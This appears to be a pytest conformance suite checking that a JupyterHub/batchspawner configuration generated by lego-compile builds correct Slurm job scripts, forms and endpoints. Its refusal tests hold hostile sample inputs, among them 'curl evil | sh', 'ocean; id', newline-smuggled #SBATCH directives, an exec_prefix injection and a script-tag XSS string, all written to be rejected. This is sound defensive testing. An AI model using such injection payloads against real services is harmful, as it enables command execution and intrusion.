"""JupyterHub, batchspawner and shellcheck judge what the apptainer target makes."""

from __future__ import annotations

import asyncio
import re
import shlex
import shutil
import subprocess
import sys
from dataclasses import dataclass, replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any
from unittest import mock

import pytest

from lego_compile.targets.apptainer import TARGET
from tests.conformance.spawn_page import Page
from tests.strategies import choices, example, spelled
from tests.targets.apptainer.samples import everything, exceptions, install, options, projected, slurm

pytest.importorskip(
    "batchspawner", reason="no batchspawner: pip install 'lego-compile[conformance]' jupyterhub"
)

pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")

TOKEN = "t0ken-of-the-user"
DEPLOYMENT = projected(example())


def load(root: Path) -> Any:
    """JupyterHub with the configuration that was installed."""
    from jupyterhub.app import JupyterHub

    app = JupyterHub(log_level=50)
    app.load_config_file(str(root / "jupyterhub" / "jupyterhub_config.py"))
    return app


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory) -> Any:
    """JupyterHub of the example, with Slurm."""
    chosen = {**everything(), "site_binds": []}
    return load(install(tmp_path_factory.mktemp("hub"), DEPLOYMENT, chosen))


def spawner(app: Any, name: str = "ada", groups: tuple[str, ...] = ("staff",), last: Any = None) -> Any:
    """A spawner of a user, as JupyterHub would make it; commands are recorded and not run."""
    user = mock.MagicMock(escaped_name=name, url=f"/user/{name}/")
    user.name, user.groups = name, [SimpleNamespace(name=each) for each in groups]
    hub = SimpleNamespace(
        base_url="/hub/",
        api_url="http://hub.example.org:8081/hub/api",
        public_host="",
        server=mock.MagicMock(),
    )
    made = app.config.JupyterHub.spawner_class(
        config=app.config, user=user, hub=hub, authenticator=None, api_token=TOKEN, db=mock.MagicMock(),
        oauth_client_id="jupyterhub-user", req_homedir=f"/home/{name}", public_url="",
        orm_spawner=SimpleNamespace(user_options=last, name="", state={}, server=None),
    )  # fmt: skip
    made.run = []

    async def run_command(command: str, input: str | None = None, env: dict[str, str] | None = None) -> str:
        made.run.append((command, input, env))
        return "7" if "sbatch" in command else "RUNNING node1.example.org"

    made.user_env = lambda env: {**env, "USER": name, "HOME": f"/home/{name}"}  # no such users here
    made.run_command = run_command
    made.mock_port, made.startup_poll_interval = 40000, 0.001
    return made


def script(app: Any, chosen: Any, **user: Any) -> str:
    """The batch script that Slurm gets for the options of a user."""
    made = spawner(app, **user)
    made.user_options = chosen
    assert ("node1.example.org", 40000) == asyncio.run(made.start())
    command, text, environment = made.run[0]
    assert f"sudo -E -u {made.user.name} sbatch --parsable" == command
    assert TOKEN == environment["JUPYTERHUB_API_TOKEN"]
    assert TOKEN not in text
    return str(text)


def directives(text: str) -> dict[str, str]:
    """What the script asks Slurm for."""
    return dict(re.findall(r"^#SBATCH --([a-z-]+)=(.*)$", text, re.MULTILINE))


def launched(text: str) -> list[str]:
    """The words of the last line, the one that starts the session."""
    return shlex.split(text.splitlines()[-1])


def test_jupyterhub_knows_every_setting(app: Any) -> None:
    """Each class and trait that the configuration names exists: JupyterHub ignores others without a word."""
    from jupyterhub.app import JupyterHub

    spawner_class = app.config.JupyterHub.spawner_class
    classes = {"JupyterHub": JupyterHub, "LegoSlurmSpawner": spawner_class}
    assert classes.keys() == app.config.keys()
    for name, settings in app.config.items():
        assert set() == settings.keys() - set(classes[name].class_trait_names(config=True))
    app.update_config(app.config)
    assert spawner_class is app.spawner_class
    assert "http://hub.grenoble.example.org:8081" == app.hub_connect_url
    assert "http://0.0.0.0:8081" == app.hub_bind_url
    assert {"staff": {"users": ["ada", "grace"]}} == app.load_groups


def test_the_site_has_the_last_word(tmp_path: Path) -> None:
    """What only the site knows is in files that lego-compile does not write."""
    root = install(tmp_path, DEPLOYMENT, options(slurm=slurm(hub_url=None)))
    extra = root / "jupyterhub" / "jupyterhub_config.d" / "site.py"
    extra.parent.mkdir()
    extra.write_text(
        "c.JupyterHub.bind_url = 'http://:8123'\nc.LegoSlurmSpawner.req_prologue = 'module load x'\n"
    )
    app = load(root)
    assert "http://:8123" == app.config.JupyterHub.bind_url
    assert "hub_bind_url" not in app.config.JupyterHub
    assert "module load x" in script(app, {}).splitlines()


@pytest.mark.parametrize(
    ("url", "connect", "bind"),
    [
        ("http://hub.example.org:99999", None, None),
        ("http://hub.example.org:0", None, None),
        ("http://hub.example.org", None, None),
        ("https://hub.example.org:8081", "https://hub.example.org:8081", "http://0.0.0.0:8081"),
    ],
)
def test_no_address_of_the_hub_stops_it(
    tmp_path: Path, url: str, connect: str | None, bind: str | None
) -> None:
    """The hub starts, and people can mend it, with whatever stands in the data file."""
    app = load(install(tmp_path, DEPLOYMENT, options(slurm=slurm(hub_url=url))))
    assert connect == app.config.JupyterHub.get("hub_connect_url")
    assert bind == app.config.JupyterHub.get("hub_bind_url")


def test_every_choice_starts_the_composition(app: Any) -> None:
    """For every profile and all ticked bricks, the job runs the launcher with exactly them, and the command."""
    for profile in DEPLOYMENT.profiles:
        for ticked in choices(profile):
            words = list(map(spelled, ticked))
            text = script(app, {"profile": profile.slug, "bricks": words})
            expected = ["exec", "/opt/lego/grenoble/bin/lego-launch", "-c", profile.slug]
            expected += ["-b", ",".join(words)] if words else []
            assert [*expected, "--", "batchspawner-singleuser", *profile.command] == launched(text)


@pytest.mark.parametrize(
    ("slug", "words", "launches"),
    [
        ("ocean", ["ml@include"], "ml"),
        ("ocean", ["notebook@v2025-7-1", "ml@v2025-1", "ml"], "ml,notebook"),
        ("ocean", ["ml@v2026-3", "ml@v2026-3"], "ml@v2026-3"),
        ("field", ["climate"], "climate@v2026-3"),
        ("field", ["climate@v2026-10"], "climate@v2026-10"),
    ],
)
def test_a_wish_has_one_meaning(app: Any, slug: str, words: list[str], launches: str) -> None:
    """The job says which release it is, whatever was stored for it."""
    assert ["-b", launches] == launched(script(app, {"profile": slug, "bricks": words}))[4:6]


def test_every_profile_gets_its_resources(app: Any) -> None:
    """The limits of a profile are those of its job, and what the centre says of one profile counts for it only."""
    common = {"account": "gaia", "qos": "short", "reservation": "school2026", "nodes": "1", "ntasks": "1"}
    ocean = directives(script(app, {}))
    expected = {
        **common,
        "partition": "interactive",
        "time": "08:00:00",
        "cpus-per-task": "4",
        "mem": "8388608K",
    }
    assert expected.items() <= ocean.items()
    assert "gres" not in ocean
    deep = directives(script(app, {"profile": "deep"}))
    expected = {**common, "partition": "gpu", "time": "02:00:00", "mem": "33554432K", "gres": "gpu:a100:2"}
    assert "9" == deep["cpus-per-task"]
    assert expected.items() <= deep.items()
    assert {"JUPYTERHUB_API_TOKEN", "MEM_LIMIT", "CPU_LIMIT"} < set(deep["export"].split(","))


def test_what_is_unsaid_is_left_to_the_cluster(tmp_path: Path) -> None:
    """Without options and limits the job asks for nothing but time."""
    root = install(tmp_path, DEPLOYMENT, options(slurm=slurm(partition=None, profiles={})))
    assert {
        "job-name",
        "chdir",
        "output",
        "export",
        "nodes",
        "ntasks",
        "time",
        "cpus-per-task",
        "mem",
    } == directives(script(load(root), {})).keys()


def test_an_exception_changes_only_what_it_says(tmp_path: Path) -> None:
    """A profile with another time keeps the partition of all."""
    root = install(
        tmp_path, DEPLOYMENT, options(slurm=slurm(profiles={"ocean": exceptions(time="01:00:00")}))
    )
    found = directives(script(load(root), {}))
    assert ("01:00:00", "interactive") == (found["time"], found["partition"])


def test_no_limits_outlive_a_session(app: Any) -> None:
    """A spawner is used again: nothing of the profile before is left when another one is chosen."""
    made = spawner(app)
    for slug in ("deep", "ocean"):
        made.user_options = {"profile": slug}
        asyncio.run(made.start())
    texts = [text for command, text, _ in made.run if "sbatch" in command]
    assert "gres" not in directives(texts[1])
    assert script(app, {}) == texts[1]


@pytest.mark.parametrize(
    "attack",
    [
        {"cmd": "id > /tmp/pwn"},
        {"profile": "ocean", "partition": "secret"},
        {"prologue": "curl evil | sh"},
        {"req_partition": "secret"},
        {"launcher": "/tmp/evil"},
        {"self": 1},
        {"profile": "ocean", "bricks": ["clouds"]},
        {"profile": "ocean", "bricks": ["ocean"]},
        {"profile": "ocean", "bricks": "ml"},
        {"profile": "ocean", "bricks": {"ml": 1}},
        {"profile": "ocean", "bricks": [["ml"]]},
        {"profile": "ocean", "bricks": ["ml\n#SBATCH --partition=secret"]},
        {"profile": "ocean", "bricks": ["ml@v2026-3\n#SBATCH --partition=secret"]},
        {"profile": "ocean", "bricks": ["ml", "ml@v2026-3"]},
        {"profile": "ocean", "bricks": ["ml@v2025-1", "ml@v2026-3"]},
        {"profile": "ocean", "bricks": ["ml@2026.3"]},
        {"profile": "ocean", "bricks": ["ml@v2025-7-1"]},
        {"profile": "ocean", "bricks": ["ml@"]},
        {"profile": "ocean", "bricks": ["ocean@include"]},
        {"profile": "ocean", "bricks": ["@include"]},
        {"profile": "ocean", "bricks": [""]},
        {"profile": ["ocean"]},
        {"profile": "ocean; id"},
        {"profile": None},
        ["ocean"],
        "ocean",
    ],
)
def test_an_attack_is_refused(app: Any, attack: Any) -> None:
    """Whatever a request says besides a profile and its offered bricks is answered with 400, and starts nothing."""
    from tornado.web import HTTPError

    made = spawner(app)
    # JupyterHub stores the body of a REST request as it is; the trait takes a mapping only
    made.user_options = attack if isinstance(attack, dict) else {}
    if not isinstance(attack, dict):
        made.__class__ = type("Loose", (made.__class__,), {"user_options": attack})
    with pytest.raises(HTTPError) as refused:
        asyncio.run(made.start())
    assert 400 == refused.value.status_code
    assert [] == made.run


def test_no_option_reaches_the_script(app: Any) -> None:
    """Even when the check were passed, options are no variables of the script."""
    made = spawner(app)
    text = asyncio.run(made._get_batch_script(cmd="id", partition="secret", launcher="/tmp/evil"))
    assert "secret" not in text
    assert "evil" not in text


@pytest.mark.parametrize(
    ("name", "groups", "open_to_user"),
    [
        ("ada", ("staff",), ["ocean", "field", "deep"]),
        ("bob", (), ["ocean"]),
        ("bob", ("m1",), ["ocean", "deep"]),
        ("bob", ("staff",), ["ocean"]),
    ],
    ids=["listed", "nobody", "group of the authenticator", "listed no more"],
)
def test_a_profile_of_a_group_is_for_its_members(
    app: Any, name: str, groups: tuple[str, ...], open_to_user: list[str]
) -> None:
    """Others neither see it nor can start it; members that the spec lists no more lose it."""
    from tornado.web import HTTPError

    started = []
    for profile in DEPLOYMENT.profiles:
        made = spawner(app, name, groups)
        made.user_options = {"profile": profile.slug}
        try:
            asyncio.run(made.start())
            started.append(profile.slug)
        except HTTPError:
            assert [] == made.run
    assert open_to_user == started
    assert open_to_user == form(spawner(app, name, groups)).values("profile")


def form(made: Any) -> Page:
    """The spawn page."""
    return Page(asyncio.run(made.get_options_form()))


def test_the_form_says_what_is_offered(app: Any) -> None:
    """Every profile with its bricks, the default one preselected, and titles as text."""
    page = form(spawner(app))
    assert ["", "ml", "ml@v2026-3", "notebook"] == page.values("bricks-ocean")
    assert ["no", "2026.10", "2026.3"] == [box.label for box in page.boxes if box.name == "bricks-ocean"][:3]
    assert {"profile": ["ocean"], "bricks-ocean": [""], "bricks-field": [""]} == page.posted()
    assert "Ocean & climate" in page.text
    tags = {"style", "div", "input", "label", "strong", "p", "fieldset", "legend", "select", "option"}
    assert tags == page.tags


def test_what_the_form_sends_starts(app: Any) -> None:
    """The boxes of the chosen profile count, those of others do not."""
    made = spawner(app)
    chosen = made.options_from_form({"profile": ["ocean"], "bricks-ocean": ["ml"], "bricks-deep": ["x"]})
    assert {"profile": "ocean", "bricks": ["ml"]} == chosen
    assert ["-b", "ml"] == launched(script(app, chosen))[4:6]
    chosen = made.options_from_form({"profile": ["field"], "bricks-field": ["climate@v2026-10"]})
    assert ["-b", "climate@v2026-10"] == launched(script(app, chosen))[4:6]
    chosen = made.options_from_form({"profile": ["field"], "bricks-field": [""]})
    assert {"profile": "field", "bricks": []} == chosen


def test_the_last_choice_is_preselected(app: Any) -> None:
    """As it was ticked; a choice that does not hold any more gives way to the default."""
    nothing = {"profile": ["ocean"], "bricks-ocean": [""], "bricks-field": [""]}
    for bricks, posted in (
        (["ml"], ["ml"]),
        (["ml@v2026-3", "notebook"], ["ml@v2026-3", "notebook"]),
        (["ml@v2025-1"], ["ml"]),
        ([], [""]),
    ):
        page = form(spawner(app, last={"profile": "ocean", "bricks": bricks}))
        assert {**nothing, "bricks-ocean": posted} == page.posted()
    assert nothing == form(spawner(app, last={"profile": "gone", "bricks": ["ml"]})).posted()


def test_titles_and_releases_are_text(tmp_path: Path) -> None:
    """Markup in what people read is shown and not obeyed."""
    evil = '"><script>alert(1)</script>'
    first = DEPLOYMENT.profiles[0]
    offers = tuple(
        replace(brick, title=evil, **({"choice": evil, "release": evil} if brick.choice else {}))
        for brick in first.offers
    )
    hostile = replace(first, title=evil, description=evil, offers=offers)
    root = install(tmp_path, replace(DEPLOYMENT, profiles=(hostile,)), options(slurm=slurm()))
    page = form(spawner(load(root)))
    assert "script" not in page.tags
    assert 6 == page.text.count(evil)
    assert ["", f"ml@{evil}", f"ml@{evil}", "notebook"] == page.values("bricks-ocean")


def test_without_a_choice_there_is_no_form(tmp_path: Path) -> None:
    """One profile without offers needs no page."""
    alone = replace(DEPLOYMENT, profiles=(replace(DEPLOYMENT.profiles[0], offers=()),))
    assert "" == asyncio.run(
        spawner(load(install(tmp_path, alone, options(slurm=slurm())))).get_options_form()
    )


@dataclass
class Answers:
    """What a hub answered to the reports of sessions.

    Attributes:
        codes: status by the body that was sent.
        before: traits of the spawner before anything was sent.
        after: the same, after everything but the port was sent.
        stranger: status of a port sent with a token of the user that is no session's.
        nobody: status of a port sent without a token.
        port: of the spawner, at last.
        routes: handlers of the route.
    """

    codes: dict[str, int]
    before: dict[str, Any]
    after: dict[str, Any]
    stranger: int
    nobody: int
    port: int
    routes: list[Any]


REFUSED = (
    '{"exec_prefix": "id;"}',
    '{"port": 40000, "exec_prefix": "id;"}',
    '{"batch_query_cmd": "id"}',
    '{"cmd": ["id"]}',
    '{"user_options": {}}',
    '{"port": "40000"}',
    '{"port": 40000.0}',
    '{"port": true}',
    '{"port": null}',
    '{"port": [40000]}',
    '{"port": 1023}',
    '{"port": 65536}',
    '{"port": -1}',
    "{}",
    "[]",
    '["port"]',
    '"port"',
    "40000",
    "null",
    "{",
    "",
)
"""Bodies that no session sends."""


async def reported(root: Path) -> Answers:
    """Start the hub that was installed, with a user who has a session, and send it reports over HTTP."""
    from jupyterhub import orm
    from jupyterhub.app import JupyterHub
    from tornado.httpclient import AsyncHTTPClient
    from tornado.httpserver import HTTPServer
    from tornado.testing import bind_unused_port

    hub = JupyterHub()
    await hub.initialize(["-f", str(root / "jupyterhub" / "jupyterhub_config.py"), "--log-level=CRITICAL"])
    socket, number = bind_unused_port()
    server = HTTPServer(hub.tornado_application)
    server.add_socket(socket)
    try:
        ada = orm.User.find(hub.db, "ada")  # a member of a group of the example
        user = hub.users[ada]
        made = user.spawners[""]
        made.api_token = user.new_api_token(note="Server at /user/ada/")

        async def post(body: str, token: str) -> int:
            answer = await AsyncHTTPClient().fetch(
                f"http://127.0.0.1:{number}/hub/api/batchspawner",
                method="POST",
                body=body,
                headers={"Authorization": f"token {token}"} if token else {},
                raise_error=False,
            )
            return int(answer.code)

        def traits() -> dict[str, Any]:
            return {name: getattr(made, name) for name in ("exec_prefix", "batch_query_cmd", "cmd", "port")}

        before = traits()
        codes = {body: await post(body, made.api_token) for body in REFUSED}
        after = traits()
        good = '{"port": 40000}'
        stranger, nobody = await post(good, user.new_api_token()), await post(good, "")
        assert after == traits()
        codes[good] = await post(good, made.api_token)
        routes = [each[1] for each in hub.handlers if each[0] == "/hub/api/batchspawner"]
        return Answers(codes, before, after, stranger, nobody, made.port, routes)
    finally:
        server.stop()
        hub.db.close()


@pytest.fixture
def answers(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Answers:
    """Of a real hub, in a folder of its own."""
    monkeypatch.chdir(tmp_path)
    root = install(tmp_path / "root", DEPLOYMENT, {**everything(), "site_binds": []})
    extra = root / "jupyterhub" / "jupyterhub_config.d" / "site.py"
    extra.parent.mkdir()
    extra.write_text(
        "c.JupyterHub.db_url, c.JupyterHub.cookie_secret = 'sqlite://', bytes(32)\n"
        "c.ConfigurableHTTPProxy.auth_token, c.JupyterHub.authenticator_class = 'x', 'dummy'\n"
        "c.Authenticator.allow_all = True\n"
    )
    return asyncio.run(reported(root))


def test_a_session_reports_its_port_and_nothing_else(answers: Answers) -> None:
    """The token of a session sets a port of the spawner; anything else is answered with 400 and sets nothing."""
    assert {**dict.fromkeys(REFUSED, 400), '{"port": 40000}': 201} == answers.codes
    assert answers.before == answers.after
    assert 40000 == answers.port
    assert (403, 403) == (answers.stranger, answers.nobody)
    assert ["PortHandler"] == [each.__name__ for each in answers.routes]


def test_batchspawner_in_the_session_reports_what_the_hub_takes(monkeypatch: pytest.MonkeyPatch) -> None:
    """The program in the image sends a body that is not among those refused: a port, alone."""
    from batchspawner import singleuser

    sent: list[Any] = []
    monkeypatch.setenv("JUPYTERHUB_API_TOKEN", TOKEN)
    monkeypatch.setattr(singleuser.requests, "post", lambda url, **more: sent.append((url, more["json"])))
    monkeypatch.setattr(singleuser, "run_path", lambda *_, **__: None)
    monkeypatch.setattr(sys, "argv", ["batchspawner-singleuser", "true"])
    singleuser.main()
    ((url, body),) = sent
    assert url.endswith("/hub/api/batchspawner")
    assert ["port"] == list(body)
    assert (int, True) == (type(body["port"]), 1024 <= body["port"] <= 65535)


def test_the_job_keeps_its_umask_and_its_log_to_itself(app: Any, tmp_path: Path) -> None:
    """The log is the user's alone; what the session writes into shared data is as the user's umask says."""
    launcher = tmp_path / "lego-launch"
    launcher.write_text("#!/bin/sh\numask\necho wrong >&2\n")
    launcher.chmod(0o755)
    text = script(app, {}).replace("/opt/lego/grenoble/bin/lego-launch", str(launcher))
    log = tmp_path / "job.log"
    with log.open("wb") as file:
        log.chmod(0o644)  # as slurmstepd leaves it under the usual umask
        done = subprocess.run(
            ["bash", "-s"], input=text.encode(), stdout=file, stderr=file, umask=0o022, check=False
        )
    assert (0, 0o600) == (done.returncode, log.stat().st_mode & 0o777)
    assert "0022\nwrong\n" == log.read_text()
    piped = subprocess.run(
        ["bash", "-s"], input=text, capture_output=True, text=True, umask=0o022, check=False
    )
    assert (0, "0022\n") == (piped.returncode, piped.stdout)


def check_shell(text: str, dialect: str) -> str:
    """What shellcheck says of a script."""
    program = shutil.which("shellcheck") or shutil.which("shellcheck", path=str(Path(sys.executable).parent))
    if program is None:
        pytest.skip("shellcheck is not installed: pip install 'lego-compile[conformance]'")
    words = [program, f"--shell={dialect}", "--severity=style", "-"]
    done = subprocess.run(words, input=text, capture_output=True, text=True, check=False)
    return done.stdout + done.stderr


def test_the_scripts_are_sound_shell(app: Any) -> None:
    """shellcheck finds nothing in the job's script, for every choice, and nothing in the guard of the launcher."""
    launcher = TARGET.emit(TARGET.lower(DEPLOYMENT, options()))["bin/lego-launch"].data.decode()
    guard = re.search(r'^GUARD = """\\\n(.*?)"""', launcher, re.DOTALL | re.MULTILINE)
    assert guard is not None
    assert "" == check_shell(guard[1], "sh")
    for profile in DEPLOYMENT.profiles:
        for ticked in choices(profile):
            chosen = {"profile": profile.slug, "bricks": list(map(spelled, ticked))}
            assert "" == check_shell(script(app, chosen), "bash")
